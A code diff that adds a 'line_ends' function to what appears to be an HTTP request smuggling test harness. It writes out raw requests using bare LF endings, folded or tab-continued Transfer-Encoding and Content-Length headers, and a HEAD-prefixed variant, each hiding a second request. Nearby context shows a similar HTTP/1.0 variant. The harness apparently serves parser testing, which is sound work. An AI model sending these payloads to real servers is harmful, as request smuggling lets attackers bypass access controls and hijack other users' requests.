@@ -117,6 +117,23 @@ def chunks(target: Target) -> str:
 
 
 @attack("smuggling")
+def line_ends(target: Target) -> str:
+    """A folded header, or a line that ends with LF alone, hides a second request."""
+    plain = _post(target)
+    requests = [
+        plain.replace(b"\r\n", b"\n") + INNER,
+        plain.replace(b"\r\nHost", b"\nHost") + INNER,
+        _post(target, b"Transfer-Encoding:\r\n chunked") + b"0\r\n\r\n" + INNER,
+        _post(target, b"X-A: b\r\n\tTransfer-Encoding: chunked") + b"0\r\n\r\n" + INNER,
+        _post(target, b"X-A: b\nTransfer-Encoding: chunked") + b"0\r\n\r\n" + INNER,
+        _post(target, b"Content-Length:\r\n %d" % len(INNER)) + INNER,
+        # Behind another request, which is right.
+        target.head("GET /healthz HTTP/1.1") + _post(target, b"Transfer-Encoding:\r\n chunked") + b"0\r\n\r\n" + INNER,
+    ]
+    return _smuggled(target, requests)
+
+
+@attack("smuggling")
 def old_version(target: Target) -> str:
     """Transfer-Encoding in HTTP/1.0 hides a second request."""
     head = target.head("POST /v1/none HTTP/1.0", "Transfer-Encoding: chunked", "Connection: keep-alive")
